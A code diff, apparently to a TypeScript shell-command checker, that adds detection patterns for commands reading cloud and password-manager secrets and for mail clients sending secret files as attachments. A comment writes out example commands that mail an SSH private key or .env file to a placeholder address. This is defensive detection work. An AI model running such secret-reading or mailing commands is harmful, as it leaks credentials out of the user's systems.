@@ -53,9 +53,31 @@ const TOKEN_PRINTERS = new Map<string, RegExp>([
   ["vault", /^(?:print token|token lookup)\b/],
   ["kubectl", /^config view\b.*--raw\b/],
   ["security", /^find-(?:generic|internet)-password\b.*\s-[a-z]*w\b/],
+  // Secret stores printing a value (credential-reach.ts holds them when shown; piped out they leave).
+  ["kubectl", /\bget secrets?\b.*(?:-o|--output)[= ]?(?:ya?ml|json|jsonpath|go-template)|^config view\b.*--raw\b/],
+  ["oc", /\bget secrets?\b.*(?:-o|--output)[= ]?(?:ya?ml|json|jsonpath|go-template)/],
+  ["secret-tool", /^(?:lookup|search)\b/],
+  ["pass", /^show\b/],
+  ["bw", /^get (?:password|item|notes)\b/],
+  ["op", /^(?:read|item get)\b/],
+  ["git", /^credential fill\b/],
+]);
+/** Cloud secret managers, by subcommand wherever global options put it. */
+const SECRET_STORE_READS = new Map<string, RegExp>([
+  ["aws", /\bsecretsmanager get-secret-value\b|\bssm get-parameters?(?:-by-path)?\b.*--with-decryption/],
+  ["gcloud", /\bsecrets versions access\b/],
+  ["az", /\bkeyvault secret (?:show|download)\b/],
+  ["vault", /^(?:kv get|read)\b/],
+  ["heroku", /^config(?::get)?\b/],
 ]);
 
-const printsToken = (inv: Invocation): boolean => TOKEN_PRINTERS.get(inv.name)?.test(inv.args.map((arg) => arg.text).join(" ")) ?? false;
+const printsToken = (inv: Invocation): boolean => {
+  const token = TOKEN_PRINTERS.get(inv.name);
+  const store = SECRET_STORE_READS.get(inv.name);
+  if (!token && !store) return false;
+  const line = inv.args.map((arg) => arg.text).join(" ").slice(0, 4096);
+  return (token?.test(line) ?? false) || (store?.test(line) ?? false);
+};
 
 /** An invocation that reads secrets (its arguments or stdin file) or dumps the environment. */
 function readsSecrets(inv: Invocation): boolean {
@@ -74,8 +96,11 @@ const ALL_SECRETS = /\$\{\{\s*(?:toJSON\(\s*secrets\s*\)|secrets\.\w+)/i;
 /** One table of secrets: this file's fragments and the credential stores a Read is judged by. */
 const isSecretOrCredential = (text: string): boolean => isSecretPath(text) || isCredentialPath(text);
 
+/** Mail clients: what they are given on stdin or attach leaves with the message. */
+const MAILERS = new Set(["mail", "mailx", "s-nail", "mutt", "neomutt", "sendmail", "msmtp", "swaks", "ssmtp"]);
+
 function isSender(inv: Invocation): boolean {
-  return FETCHERS.has(inv.name) || isSocketTool(inv) || DNS_TOOLS.has(inv.name) || REMOTE_COPIERS.has(inv.name);
+  return FETCHERS.has(inv.name) || isSocketTool(inv) || DNS_TOOLS.has(inv.name) || REMOTE_COPIERS.has(inv.name) || MAILERS.has(inv.name);
 }
 
 function sendsSecrets(inv: Invocation, model: ShellModel): boolean {
@@ -89,6 +114,8 @@ function sendsSecrets(inv: Invocation, model: ShellModel): boolean {
   if (upstream.some(printsToken)) return true;
   if (feed?.kind === "file" && isSecretPath(feed.field.text) && !FETCHERS.has(inv.name)) return true;
   if (REMOTE_COPIERS.has(inv.name)) return copiesSecretAway(inv);
+  // `mail -A ~/.ssh/id_rsa x@y`, `mutt -a .env`, `swaks --attach @key`: the secret is the attachment.
+  if (MAILERS.has(inv.name)) return (feed?.kind === "file" && isSecretOrCredential(feed.field.text)) || inv.args.some((arg) => isSecretOrCredential(arg.text.replace(/^@/, "")));
   return FETCHERS.has(inv.name) && uploadsSecretFile(inv);
 }
 
